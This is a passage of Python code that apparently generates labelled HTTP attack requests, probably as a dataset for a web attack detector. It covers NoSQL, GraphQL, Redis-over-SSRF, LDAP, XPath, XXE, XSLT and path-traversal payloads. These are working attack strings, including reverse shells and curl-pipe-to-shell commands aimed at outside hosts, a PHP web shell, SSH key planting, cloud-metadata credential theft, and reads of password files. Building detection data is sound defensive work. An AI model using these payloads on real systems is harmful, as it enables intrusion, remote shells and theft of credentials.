        ("/api/v1/posts", [("author", "x' || this.role == 'admin' || '")], "query", "break-out of a $where JS string"),
        ("/api/sessions", [("token[$regex]", "^7f")], "query", "token[$regex] prefix oracle"),
    ]
    for path, pairs, kind, tech in mongo_q:
        if kind == "form":
            em.rec("nosqli", "mongodb", "POST", path, headers_for("express", nk(), ctype="application/x-www-form-urlencoded"), form(pairs), desc="mongodb: " + tech)
        else:
            em.rec("nosqli", "mongodb", "GET", path + "?" + qs(pairs, nk()), headers_for("express", k), desc="mongodb: " + tech)

    # --- CouchDB
    em.rec("nosqli", "couchdb", "PUT", "/_users/org.couchdb.user:oops", headers_for("api", nk(), ctype="application/json"),
           '{"type": "user", "name": "oops", "roles": ["_admin"], "roles": [], "password": "Sup3rS3cret"}',
           desc="couchdb: duplicate roles key (CVE-2017-12635)")
    em.rec("nosqli", "couchdb", "PUT", "/_node/nonode@nohost/_config/query_servers/cmd", headers_for("api", nk(), ctype="application/json"),
           '"curl -s http://203.0.113.71/c.sh | sh"', desc="couchdb: query_servers command (CVE-2017-12636)")
    em.rec("nosqli", "couchdb", "POST", "/_users/_find", headers_for("api", nk(), ctype="application/json"),
           jdump({"selector": {"type": "user", "derived_key": {"$regex": "^a"}}, "fields": ["name", "derived_key", "salt", "iterations"]}),
           desc="couchdb: Mango $regex over _users hashes")
    em.rec("nosqli", "couchdb", "GET", "/api/notes?" + qs([("owner[$gt]", "null"), ("selector", '{"owner":{"$gt":null}}')], 1), headers_for("express", nk()),
           desc="couchdb: selector widened through a pass-through param")

    # --- Elasticsearch / OpenSearch / Kibana
    em.rec("nosqli", "elasticsearch", "GET", "/search?" + qs([("q", "laptop) OR (_index:users AND password:*")], nk()), headers_for("express", k),
           desc="elasticsearch: query_string syntax reaching another index")
    em.rec("nosqli", "elasticsearch", "POST", "/api/catalog/search", headers_for("express", nk(), ctype="application/json"),
           jdump({"term": "laptop\"}},{\"script\":{\"script\":{\"source\":\"doc['password.keyword'].value.startsWith('a')\"}}},{\"match\":{\"x\":\""}),
           desc="elasticsearch: JSON break-out adding a painless script clause")
    em.rec("nosqli", "elasticsearch", "POST", "/api/timelion/run", headers_for("express", nk(), ctype="application/json", extra=[("kbn-xsrf", "reporting")]),
           jdump({"sheet": [".es(*).props(label.__proto__.env.AAAA='require(\"child_process\").exec(\"bash -c \\'bash -i>& /dev/tcp/203.0.113.72/6666 0>&1\\'\");process.exit()//')\n.props(label.__proto__.env.NODE_OPTIONS='--require /proc/self/environ')"],
                  "time": {"from": "now-15m", "interval": "auto", "mode": "quick", "timezone": "UTC", "to": "now"}}),
           desc="kibana: Timelion prototype pollution (CVE-2019-7609)")
    em.rec("lfi", "elasticsearch", "GET", "/_snapshot/x/backdata%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd", headers_for("api", nk()),
           desc="elasticsearch: snapshot name traversal (CVE-2015-5531)")
    em.rec("nosqli", "elasticsearch", "POST", "/api/logs/search", headers_for("go", nk(), ctype="application/json"),
           jdump({"query": {"script": {"script": {"source": "java.lang.Runtime.getRuntime().exec(params.c)", "params": {"c": "id"}}}}}),
           desc="elasticsearch: painless Runtime.exec through a pass-through query")

    # --- Neo4j Cypher
    cypher = [
        ("x' OR 1=1 WITH 1 as a CALL dbms.components() YIELD name, versions, edition UNWIND versions as version LOAD CSV FROM 'http://203.0.113.73/?v=' + version + '&e=' + edition as l RETURN 0 as _0 //", "dbms.components() to LOAD CSV"),
        ("x' RETURN 1 UNION CALL db.labels() YIELD label LOAD CSV FROM 'http://203.0.113.73/?l='+label AS l RETURN 1 //", "db.labels() exfiltration"),
        ("x'}) MATCH (u:User) DETACH DELETE u //", "DETACH DELETE after closing a map"),
        ("x' LOAD CSV FROM 'file:///etc/passwd' AS l RETURN l //", "LOAD CSV file://"),
        ("x' CALL apoc.load.json('http://169.254.169.254/latest/meta-data/iam/security-credentials/') YIELD value RETURN value //", "apoc.load.json metadata"),
        ("x' OR n.password STARTS WITH 'a' OR '1'='2", "boolean STARTS WITH on a property"),
        ("x' CALL dbms.security.listUsers() YIELD username LOAD CSV FROM 'http://203.0.113.73/?u='+username AS l RETURN 1 //", "listUsers exfiltration"),
        ("1 OR 1=1 WITH 1 AS a CALL dbms.procedures() YIELD name RETURN name //", "numeric context dbms.procedures()"),
    ]
    cy_sites = [Site("query", "spring", "/api/graph/friends", "name"), Site("json", "express", "/api/recommendations", "user", tmpl={"user": "§", "limit": 10}),
                Site("form", "spring", "/people/search", "q")]
    for i, (p, tech) in enumerate(cypher):
        em.add("nosqli", "neo4j", cy_sites, p, 1, desc="neo4j: " + tech)

    # --- GraphQL carriers
    gq = "/graphql"
    em.rec("sqli", "graphql-postgres", "POST", gq, headers_for("api", nk(), ctype="application/json"),
           jdump({"operationName": "Product", "query": "query Product($slug: String!) { product(slug: $slug) { id name price } }",
                  "variables": {"slug": "x' UNION SELECT NULL,current_user,version()--"}}), desc="graphql: PostgreSQL UNION in a variable")
    em.rec("sqli", "graphql-mysql", "POST", gq, headers_for("express", nk(), ctype="application/json"),
           jdump({"query": "{ user(name: \"admin' AND SLEEP(5)-- -\") { id email } }"}), desc="graphql: MySQL SLEEP in an inline argument")
    em.rec("nosqli", "graphql-mongodb", "POST", gq, headers_for("express", nk(), ctype="application/json"),
           jdump({"query": "query Orders($w: JSON) { orders(where: $w) { id total } }", "variables": {"w": {"$where": "sleep(5000) || true"}}}),
           desc="graphql: Mongo $where in a JSON scalar")
    aliases = " ".join('a%d: verifyOtp(code: "%04d") { ok token }' % (i, i) for i in range(0, 60))
    em.rec("nosqli", "graphql-batching", "POST", gq, headers_for("api", nk(), ctype="application/json"),
           jdump({"query": "mutation { %s }" % aliases}), desc="graphql: alias batching of OTP guesses")
    batch = [{"query": "mutation Login($u: String!, $p: String!) { login(username: $u, password: $p) { token } }",
              "variables": {"u": "admin", "p": pw}} for pw in ["123456", "password", "admin123", "qwerty", "letmein", "Welcome1", "Summer2024!", "P@ssw0rd",
                                                               "changeme", "admin", "root", "iloveyou", "monkey", "dragon", "111111", "abc123"]]
    em.rec("nosqli", "graphql-batching", "POST", gq, headers_for("api", nk(), ctype="application/json"), jdump(batch), desc="graphql: array batching of logins")
    nest = "posts { author { " * 12 + "id" + " } }" * 12
    em.rec("nosqli", "graphql-depth", "POST", gq, headers_for("api", nk(), ctype="application/json"), jdump({"query": "query { user(id: 1) { %s } }" % nest}),
           desc="graphql: circular nesting 24 levels deep")
    em.rec("ssrf", "graphql", "POST", gq, headers_for("api", nk(), ctype="application/json"),
           jdump({"query": "mutation { importFromUrl(url: \"http://169.254.169.254/latest/meta-data/iam/security-credentials/\") { id status } }"}),
           desc="graphql: metadata URL in a mutation argument")
    em.rec("rce", "graphql", "POST", gq, headers_for("api", nk(), ctype="application/json"),
           jdump({"query": "mutation Diag($h: String!) { ping(host: $h) { output } }", "variables": {"h": "127.0.0.1; cat /etc/passwd"}}),
           desc="graphql: shell separator in a variable")

    # --- Redis over SSRF and web consoles
    cron = "\n\n*/1 * * * * bash -i >& /dev/tcp/203.0.113.75/4444 0>&1\n\n"
    shell = "\n\n<?php system($_GET['c']); ?>\n\n"
    key = "\n\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIH0yOq6H7tL3n3yXbC1lZDI1NTE5AAAAIeve attacker@kali\n\n"
    redis_urls = [
        (gopher_redis(["flushall"], ["set", "1", cron], ["config", "set", "dir", "/var/spool/cron/"], ["config", "set", "dbfilename", "root"], ["save"]), "gopher RESP cron job"),
        (gopher_redis(["config", "set", "dir", "/var/www/html"], ["config", "set", "dbfilename", "shell.php"], ["set", "x", shell], ["save"]), "gopher RESP web shell"),
        (gopher_redis(["config", "set", "dir", "/root/.ssh/"], ["config", "set", "dbfilename", "authorized_keys"], ["set", "k", key], ["save"]), "gopher RESP authorized_keys"),
        (gopher_redis(["module", "load", "/tmp/exp.so"], ["system.exec", "id"]), "gopher RESP MODULE LOAD"),
        ("dict://127.0.0.1:6379/SLAVEOF%20203.0.113.75%206379", "dict SLAVEOF rogue master"),
        ("dict://127.0.0.1:6379/CONFIG%20SET%20dir%20/var/www/html", "dict CONFIG SET dir"),
        ("http://127.0.0.1:6379/%0D%0ACONFIG%20SET%20dbfilename%20x.php%0D%0ASAVE%0D%0A", "HTTP with CRLF-separated inline commands"),
    ]
    r_sites = [Site("query", "php", "/api/fetch", "url"), Site("json", "api", "/api/webhooks", "callback_url", tmpl={"event": "order.paid", "callback_url": "§"}),
               Site("form", "django", "/import/remote/", "source_url", tmpl=[("format", "csv")])]
    for url, tech in redis_urls:
        em.add("ssrf", "redis", r_sites, url, 1, desc="redis: " + tech)
    lua = "eval 'local io_l = package.loadlib(\"/usr/lib/x86_64-linux-gnu/liblua5.1.so.0\", \"luaopen_io\"); local io = io_l(); local f = io.popen(\"id\", \"r\"); local res = f:read(\"*a\"); f:close(); return res' 0"
    em.rec("rce", "redis-lua", "POST", "/apiv2/server/R:localhost:6379:0/exec", headers_for("express", nk(), ctype="application/json"),
           jdump({"cmd": lua}), desc="redis: Lua package.loadlib escape (CVE-2022-0543) via a web console")
    em.rec("rce", "redis-lua", "POST", "/api/databases/3f1a/cli/9c2e/send-command", headers_for("api", nk(), ctype="application/json"),
           jdump({"command": "CONFIG SET dir /var/www/html", "outputFormat": "TEXT"}), desc="redis: CONFIG SET dir through a CLI endpoint")


# ============================================================================ LDAP and XPath / XQuery

LDAP = [
    ("*)(uid=*))(|(uid=*", "filter closure with an OR tail"),
    ("admin)(&)", "absolute TRUE filter"),
    ("*)(|(objectClass=*)", "objectClass wildcard"),
    ("admin*)((|userPassword=*)", "userPassword presence"),
    ("admin)(userPassword=a*", "blind userPassword prefix"),
    ("*)(memberOf=CN=Domain Admins,CN=Users,DC=corp,DC=example,DC=com", "Active Directory group membership"),
    ("*)(ms-Mcs-AdmPwd=*", "LAPS password attribute"),
    ("*))\x00", "NUL terminator"),
    ("*)(userAccountControl:1.2.840.113556.1.4.803:=2", "AD bitwise matching rule OID"),
    ("*)(cn=*))(|(cn=*", "search box closure"),
    ("admin)(!(&(objectClass=void)", "negated impossible filter"),
    ("jdoe)(|(mail=*)(telephoneNumber=*)", "attribute enumeration"),
    ("*)(sAMAccountName=krbtgt", "krbtgt lookup"),
]
LDAP_SITES = [
    Site("form", "jee", "/login", "username", tmpl=[("password", "x")]),
    Site("query", "php", "/directory/search", "q"),
    Site("json", "spring", "/api/users/lookup", "uid", tmpl={"uid": "§", "attrs": ["cn", "mail"]}),
    Site("query", "aspnet", "/Phonebook/Search.aspx", "name"),
]

XPATH = [
    ("xpath1", "' or '1'='1", "tautology"),
    ("xpath1", "' or count(/*)=1 or 'a'='b", "count(/*)"),
    ("xpath1", "'] | //user/password | //x['", "union of node sets"),
    ("xpath1", "' or substring(name(/*[1]),1,1)='u' or 'a'='b", "blind name() substring"),
    ("xpath1", "' or string-length(//user[position()=1]/password)=8 or 'a'='b", "blind string-length"),
    ("xpath1", "x') or ('1'='1", "closing a function call"),
    ("xpath2", "x' or doc(concat('http://203.0.113.80/?p=',encode-for-uri(//user[1]/password))) or 'a'='b", "doc() out-of-band"),
    ("xpath2", "x' or unparsed-text('/etc/passwd') or 'a'='b", "unparsed-text()"),
    ("basex", "'] return file:read-text('/etc/passwd') (:", "BaseX file:read-text"),
    ("basex", "'] return proc:system('id') (:", "BaseX proc:system"),
    ("existdb", "'] return util:eval(xs:anyURI('http://203.0.113.80/x.xq')) (:", "eXist util:eval of a remote module"),
    ("marklogic", "'] return xdmp:eval('xdmp:filesystem-file(\"/etc/passwd\")') (:", "MarkLogic xdmp:eval"),
    ("xquery", "x\"] let $u := doc('users.xml')//user return <r>{$u/password}</r> (:", "FLWOR dump of users.xml"),
]
XPATH_SITES = [
    Site("form", "jee", "/xmlauth/login", "user", tmpl=[("pass", "x")]),
    Site("query", "jee", "/catalog/search", "title"),
    Site("json", "spring", "/api/books/find", "author", tmpl={"author": "§", "year": 1999}),
]


def gen_ldap_xpath(em):
    for p, tech in LDAP:
        em.add("ldapi", "ldap", LDAP_SITES, p, 1, desc="ldap: " + tech)
    for dialect, p, tech in XPATH:
        em.add("xpathi", dialect, XPATH_SITES, p, 1, desc="%s: %s" % (dialect, tech))


# ============================================================================ XML parsers

OOB_DTD_REF = '<!DOCTYPE data [<!ENTITY % dtd SYSTEM "http://203.0.113.85/evil.dtd"> %dtd;]>'
LOCAL_DTD = ('<!DOCTYPE message [\n<!ENTITY % local_dtd SYSTEM "file:///usr/share/yelp/dtd/docbookx.dtd">\n'
             '<!ENTITY % ISOamso \'\n<!ENTITY &#x25; file SYSTEM "file:///etc/passwd">\n'
             '<!ENTITY &#x25; eval "<!ENTITY &#x26;#x25; error SYSTEM &#x27;file:///nonexistent/&#x25;file;&#x27;>">\n'
             '&#x25;eval;\n&#x25;error;\n\'>\n%local_dtd;\n]>')


def xxe_doc(entity_decl, root, use):
    return '<?xml version="1.0" encoding="UTF-8"?>\n%s\n%s' % (entity_decl, root.replace("§", use))


def gen_xml(em):
    k = 0

    def nk():
        nonlocal k
        k += 1
        return k

    ordr = "<order><customer>§</customer><sku>WID-2231</sku><qty>2</qty></order>"
    soap = ('<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/" xmlns:inv="http://example.com/inventory">'
            '<soapenv:Header/><soapenv:Body><inv:GetStock><inv:sku>§</inv:sku></inv:GetStock></soapenv:Body></soapenv:Envelope>')
    cases = [
        ("linux file entity", '<!DOCTYPE order [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', ordr, "&xxe;", "/api/orders/import", "application/xml", "spring"),
        ("windows file entity", '<!DOCTYPE order [<!ENTITY xxe SYSTEM "file:///c:/windows/win.ini">]>', ordr, "&xxe;", "/api/Orders/Import", "application/xml", "api"),
        ("php://filter entity", '<!DOCTYPE order [<!ENTITY xxe SYSTEM "php://filter/convert.base64-encode/resource=/var/www/html/config.php">]>', ordr, "&xxe;", "/xmlrpc/orders.php", "text/xml", "php"),
        ("expect:// entity", '<!DOCTYPE order [<!ENTITY xxe SYSTEM "expect://id">]>', ordr, "&xxe;", "/api/import.php", "application/xml", "php"),
        ("external DTD parameter entity", OOB_DTD_REF, ordr, "x", "/api/orders/import", "application/xml", "spring"),
        ("parameter entities exfiltrating a file", '<!DOCTYPE r [<!ENTITY % file SYSTEM "file:///etc/hostname"><!ENTITY % eval "<!ENTITY &#x25; exfil SYSTEM \'http://203.0.113.85/?x=%file;\'>">%eval;%exfil;]>', ordr, "x", "/service/feed", "application/xml", "jee"),
        ("local DTD error-based", LOCAL_DTD, "<message>§</message>", "x", "/api/messages", "application/xml", "spring"),
        ("jar: scheme", '<!DOCTYPE order [<!ENTITY xxe SYSTEM "jar:http://203.0.113.85/x.zip!/a.txt">]>', ordr, "&xxe;", "/ws/orders", "application/xml", "jee"),
        ("netdoc: scheme", '<!DOCTYPE order [<!ENTITY xxe SYSTEM "netdoc:///etc/passwd">]>', ordr, "&xxe;", "/ws/orders", "application/xml", "jee"),
        ("SOAP body file entity", '<!DOCTYPE soapenv:Envelope [<!ENTITY xxe SYSTEM "file:///etc/shadow">]>', soap, "&xxe;", "/InventoryService", "text/xml; charset=utf-8", "jee"),
        ("billion laughs", '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;"><!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;"><!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;"><!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;"><!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;"><!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;"><!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">]>', "<lolz>§</lolz>", "&lol9;", "/api/xml/validate", "application/xml", "express"),
        ("content-type switch on a JSON login", '<!DOCTYPE login [<!ENTITY xxe SYSTEM "file:///proc/self/environ">]>', "<login><username>§</username><password>x</password></login>", "&xxe;", "/api/auth/login", "application/xml", "express"),
        ("metadata URL entity", '<!DOCTYPE r [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/iam/security-credentials/">]>', "<feed><title>§</title></feed>", "&xxe;", "/api/feeds/preview", "application/atom+xml", "rails"),
    ]
    for tech, decl, root, use, path, ct, stack in cases:
        em.rec("xxe", "xml", "POST", path, headers_for(stack, nk(), ctype=ct), xxe_doc(decl, root, use), desc="xxe: " + tech)
    # XInclude inside a value the server embeds into its own XML document.
    xi = '<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>'
    em.rec("xxe", "xinclude", "POST", "/product/stock", headers_for("jee", nk(), ctype="application/x-www-form-urlencoded"),
           form([("productId", xi), ("storeId", "1")]), desc="xinclude: in a form value")
    em.rec("xxe", "xinclude", "POST", "/api/docs/render", headers_for("spring", nk(), ctype="application/xml"),
           '<?xml version="1.0"?>\n<doc xmlns:xi="http://www.w3.org/2001/XInclude"><title>Spec</title><xi:include href="file:///etc/hosts" parse="text"/></doc>',
           desc="xinclude: file:// include in a document body")
    # SAML response with a DOCTYPE, base64 in the POST binding.
    saml = ('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % x SYSTEM "http://203.0.113.85/saml.dtd"> %x;]>'
            '<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_a1" Version="2.0" IssueInstant="2024-06-03T10:00:00Z">'
            '<saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">https://idp.example.com</saml:Issuer></samlp:Response>')
    em.rec("xxe", "saml", "POST", "/saml/acs", headers_for("jee", nk(), ctype="application/x-www-form-urlencoded"),
           form([("SAMLResponse", b64(saml.encode())), ("RelayState", "/home")]), desc="xxe: parameter entity in a base64 SAML response")
    # SVG uploads.
    svg1 = ('<?xml version="1.0" standalone="yes"?>\n<!DOCTYPE test [ <!ENTITY xxe SYSTEM "file:///etc/hostname" > ]>\n'
            '<svg width="128px" height="128px" xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" version="1.1">'
            '<text font-size="16" x="0" y="16">&xxe;</text></svg>')
    svg2 = ('<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="200">'
            '<image xlink:href="file:///etc/passwd" width="200" height="200"/></svg>')
    svg3 = ('<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY % r SYSTEM "http://203.0.113.85/svg.dtd"> %r;]>'
            '<svg xmlns="http://www.w3.org/2000/svg"><rect width="10" height="10"/></svg>')
    for i, (svg, tech, path) in enumerate([(svg1, "file entity", "/account/avatar"), (svg2, "xlink:href file:// image", "/api/media/upload"),
                                          (svg3, "external parameter entity", "/cms/assets")]):
        b = BOUNDARIES[i]
        em.rec("xxe", "svg", "POST", path, headers_for(["rails", "express", "php"][i], nk(), ctype="multipart/form-data; boundary=" + b),
               multipart([("file", svg, ["avatar.svg", "logo.svg", "icon.svg"][i], "image/svg+xml"), ("alt", "logo", None, None)], b),
               desc="svg upload: " + tech)
    # Office documents: the entity sits in one member of the ZIP.
    office = [
        ("docx", "word/document.xml", zipfile.ZIP_DEFLATED, '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>&xxe;</w:t></w:r></w:p></w:body></w:document>', "/api/resumes/upload", "cv.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
        ("docx", "[Content_Types].xml", zipfile.ZIP_DEFLATED, '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<!DOCTYPE x [<!ENTITY % d SYSTEM "http://203.0.113.85/docx.dtd"> %d;]>\n<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>', "/documents/convert", "contract.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
        ("xlsx", "xl/workbook.xml", zipfile.ZIP_STORED, '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///c:/windows/win.ini">]>\n<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets><sheet name="&xxe;" sheetId="1"/></sheets></workbook>', "/Import/Inventory", "stock.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
        ("xlsx", "xl/worksheets/sheet1.xml", zipfile.ZIP_DEFLATED, '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<!DOCTYPE x [<!ENTITY % r SYSTEM "http://203.0.113.85/xlsx.dtd"> %r;]>\n<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData/></worksheet>', "/api/v1/leads/import", "leads.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    ]
    for i, (kind, member, comp, xml, path, fname, ct) in enumerate(office):
        doc = ooxml(kind, (member, xml), comp)
        b = BOUNDARIES[i % len(BOUNDARIES)]
        stack = ["django", "spring", "aspnet", "rails"][i]
        em.raw("xxe", kind, raw_request("POST", path, headers_for(stack, nk(), ctype="multipart/form-data; boundary=" + b),
               multipart_bytes([("file", doc, fname, ct)], b)), desc="%s upload: entity in %s (%s)" % (kind, member, "stored" if comp == zipfile.ZIP_STORED else "deflated"))
    # UTF-16 body.
    u16 = xxe_doc('<!DOCTYPE order [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', ordr, "&xxe;").replace('encoding="UTF-8"', 'encoding="UTF-16"')
    em.raw("xxe", "xml", raw_request("POST", "/api/orders/import", headers_for("spring", nk(), ctype="application/xml"),
           b"\xff\xfe" + u16.encode("utf-16-le")), desc="xxe: UTF-16LE body with a BOM")
    # XSLT: extension functions of each processor, and document()/unparsed-text().
    xslt = [
        ("rce", "xslt-xalan", '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:rt="http://xml.apache.org/xalan/java/java.lang.Runtime" xmlns:ob="http://xml.apache.org/xalan/java/java.lang.Object"><xsl:template match="/"><xsl:variable name="r" select="rt:getRuntime()"/><xsl:variable name="p" select="rt:exec($r,\'id\')"/><xsl:value-of select="ob:toString($p)"/></xsl:template></xsl:stylesheet>', "Xalan java extension Runtime.exec"),
        ("rce", "xslt-php", '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:php="http://php.net/xsl"><xsl:template match="/"><xsl:value-of select="php:function(\'system\',\'id\')"/></xsl:template></xsl:stylesheet>', "php:function system"),
        ("rce", "xslt-msxsl", '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:msxsl="urn:schemas-microsoft-com:xslt" xmlns:user="urn:x"><msxsl:script language="C#" implements-prefix="user"><![CDATA[public string x(){ System.Diagnostics.Process.Start("cmd.exe","/c whoami"); return "ok"; }]]></msxsl:script><xsl:template match="/"><xsl:value-of select="user:x()"/></xsl:template></xsl:stylesheet>', "msxsl:script C#"),
        ("xxe", "xslt-saxon", '<xsl:stylesheet version="2.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><xsl:value-of select="unparsed-text(\'/etc/passwd\', \'utf-8\')"/></xsl:template></xsl:stylesheet>', "XSLT 2 unparsed-text()"),
        ("xxe", "xslt-libxslt", '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><xsl:copy-of select="document(\'file:///etc/passwd\')"/><xsl:value-of select="system-property(\'xsl:vendor\')"/></xsl:template></xsl:stylesheet>', "document() of a local file"),
    ]
    for i, (cat, dialect, sheet, tech) in enumerate(xslt):
        if i % 2 == 0:
            em.rec(cat, dialect, "POST", "/api/reports/transform", headers_for(["spring", "php", "aspnet", "jee", "flask"][i], nk(), ctype="application/xslt+xml"),
                   '<?xml version="1.0"?>\n' + sheet, desc="%s: %s" % (dialect, tech))
        else:
            em.rec(cat, dialect, "POST", "/export/custom", headers_for(["spring", "php", "aspnet", "jee", "flask"][i], nk(), ctype="application/x-www-form-urlencoded"),
                   form([("template", sheet), ("dataset", "invoices-2024")]), desc="%s: %s in a form field" % (dialect, tech))


# ============================================================================ path traversal

TRAVERSAL = [
    # (dialect, site family, technique, value, raw?)
    ("linux", "generic", "dot-dot-slash to /etc/passwd", "../../../../../../etc/passwd", False),
    ("linux", "generic", "....// collapsing", "....//....//....//....//etc/passwd", False),
    ("linux", "generic", "pre-encoded %2f (raw)", "..%2f..%2f..%2f..%2fetc%2fpasswd", True),
    ("linux", "generic", "/proc/self/environ", "/proc/self/environ", False),
    ("linux", "generic", "/proc/self/cwd config", "../../../../proc/self/cwd/config/database.yml", False),
    ("linux", "generic", "log file for poisoning", "../../../../var/log/nginx/access.log", False),
    ("linux", "generic", "double-encoded %252f (raw)", "..%252f..%252f..%252f..%252fetc%252fshadow", True),
    ("linux", "generic", "file:// URL", "file:///etc/passwd", False),
    ("linux", "generic", "NUL before an extension (raw)", "../../../../etc/passwd%00.png", True),
    ("linux", "generic", "/proc/self/fd", "/proc/self/fd/7", False),
    ("windows", "win", "backslash traversal to win.ini", "..\\..\\..\\..\\windows\\win.ini", False),
    ("windows", "win", "absolute drive path web.config", "C:\\inetpub\\wwwroot\\web.config", False),
    ("windows", "win", "\\\\?\\ device path", "\\\\?\\C:\\Windows\\System32\\drivers\\etc\\hosts", False),
    ("windows", "win", "%5c encoded backslashes (raw)", "..%5c..%5c..%5c..%5cwindows%5cwin.ini", True),
    ("windows", "win", "UNC path (NTLM capture)", "\\\\203.0.113.90\\share\\logo.png", False),
    ("windows", "win", "8.3 short names", "C:\\PROGRA~1\\MySQL\\MYSQLS~1.0\\my.ini", False),
    ("windows", "win", "::$DATA stream", "..\\web.config::$DATA", False),
    ("windows", "win", "trailing dot", "..\\..\\web.config.", False),
    ("windows", "win", "mixed separators", "..\\/..\\/..\\/windows/win.ini", False),
    ("windows", "win", "SAM hive with forward slashes", "C:/Windows/System32/config/SAM", False),
    ("windows", "win", "admin share", "\\\\localhost\\c$\\windows\\win.ini", False),
    ("windows", "win", "unattend.xml", "..\\..\\..\\..\\Windows\\Panther\\Unattend.xml", False),
    ("java", "java", "WEB-INF via a page parameter", "../WEB-INF/web.xml", False),
    ("java", "java", "application.yml from classes", "../../WEB-INF/classes/application.yml", False),
    ("java", "java", "jar: URL into the boot jar", "jar:file:///opt/app/app.jar!/BOOT-INF/classes/application-prod.yml", False),
    ("java", "java", "classpath: prefix", "classpath:../../../../etc/passwd", False),
    ("java", "java", "overlong UTF-8 dots (raw)", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/WEB-INF/web.xml", True),
    ("node", "node", "../ to .env", "../../.env", False),
    ("node", "node", "view name traversal", "../../../../etc/passwd", False),
    ("node", "node", "i18n file traversal", "../../../../../../root/.npmrc", False),
    ("node", "node", "....// to secrets", "....//....//app/config/secrets.json", False),
    ("node", "node", "/proc/self/cwd package.json", "/proc/self/cwd/package.json", False),
    ("python", "python", "absolute path (os.path.join)", "/etc/passwd", False),
    ("python", "python", "absolute path to the instance config", "/app/instance/config.py", False),
    ("python", "python", "settings.py template", "../../settings.py", False),
    ("python", "python", "send_file environ", "../../../proc/self/environ", False),
    ("python", "python", "__pycache__ walk", "../../app/__pycache__/settings.cpython-311.pyc", False),
    ("php", "php", "php://filter base64", "php://filter/read=convert.base64-encode/resource=index.php", False),
    ("php", "php", "data:// wrapper", "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==", False),
    ("php", "php", "zip:// of an upload", "zip:///var/www/html/uploads/a.zip%23shell", True),
]

LFI_SITES = {
    "generic": [Site("query", "php", "/download.php", "file"), Site("query", "express", "/api/files", "path"),
                Site("json", "go", "/api/v1/logs/tail", "file", tmpl={"file": "§", "lines": 100}), Site("cookie", "php", "/index.php", "template")],
    "win": [Site("query", "aspnet", "/Download.aspx", "file"), Site("json", "api", "/api/Attachments/Preview", "path", tmpl={"path": "§"}),
            Site("query", "aspnet", "/Handlers/Image.ashx", "src")],
    "java": [Site("query", "jee", "/portal/page", "page"), Site("query", "spring", "/api/templates/load", "resource"),
             Site("form", "jee", "/reports/view.do", "reportFile")],
    "node": [Site("query", "express", "/static-file", "file"), Site("query", "express", "/render", "view"),
             Site("query", "express", "/i18n", "lang")],
    "python": [Site("query", "flask", "/download", "filename"), Site("query", "django", "/docs/", "template"),
               Site("json", "flask", "/api/export/fetch", "path", tmpl={"path": "§"})],
    "php": [Site("query", "php", "/index.php", "page"), Site("query", "wp", "/wp-content/plugins/gallery/view.php", "img")],
}


def gen_traversal(em):
    for dialect, fam, tech, value, raw in TRAVERSAL:
        sites = LFI_SITES[fam]
        if raw:
            p = next(s for s in sites if s.kind == "query")
            sites = [Site("rawquery", p.stack, p.path, p.param)]
        em.add("lfi", dialect, sites, value, 1, desc="%s: %s" % (dialect, tech))
    paths = [
